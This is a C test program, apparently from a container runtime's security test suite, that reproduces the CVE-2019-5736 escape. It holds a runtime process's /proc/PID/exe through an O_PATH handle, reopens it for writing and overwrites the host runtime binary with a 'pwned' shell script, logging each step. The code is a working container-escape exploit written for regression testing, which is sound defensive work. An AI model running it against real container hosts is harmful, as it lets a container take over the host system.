/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The CVE-2019-5736 attack, run inside a container by test_security.py
 * (built static, copied into the attacker's rootfs):
 *
 *   exe_overwrite PID
 *
 * PID is a process of the runtime's that this container can see (the init
 * of another container, blocked on its exec FIFO, in a pid namespace the
 * two share).  While that process still runs the runtime's binary we take
 * a handle on /proc/PID/exe: opening it for writing fails with ETXTBSY, so
 * the exploit holds an O_PATH fd, waits for a line on stdin (the test
 * starts that container meanwhile, so nothing runs the binary any more),
 * then reopens the fd through /proc/self/fd for writing and overwrites the
 * binary on the host.  Each step prints "STEP ok" or "STEP errno N (TEXT)". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *step, int r) {
        if (r < 0)
                printf("%s errno %d (%s)\n", step, errno, strerror(errno));
        else
                printf("%s ok\n", step);
        fflush(stdout);
}

int main(int argc, char **argv) {
        char path[64], line[16];
        int fd, w;

        if (argc != 2)
                return 2;
        snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
        w = open(path, O_WRONLY);
        report("open-wronly", w);
        fd = open(path, O_PATH);
        report("open-path", fd);
        /* the test runs `runsd start` now */
        if (!fgets(line, sizeof line, stdin))
                return 3;
        if (fd < 0)
                return 0;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        w = open(path, O_WRONLY);
        report("reopen-wronly", w);
        if (w >= 0)
                report("overwrite", write(w, "#!/bin/sh\necho pwned\n", 21) == 21 ? 0 : -1);
        return 0;
}
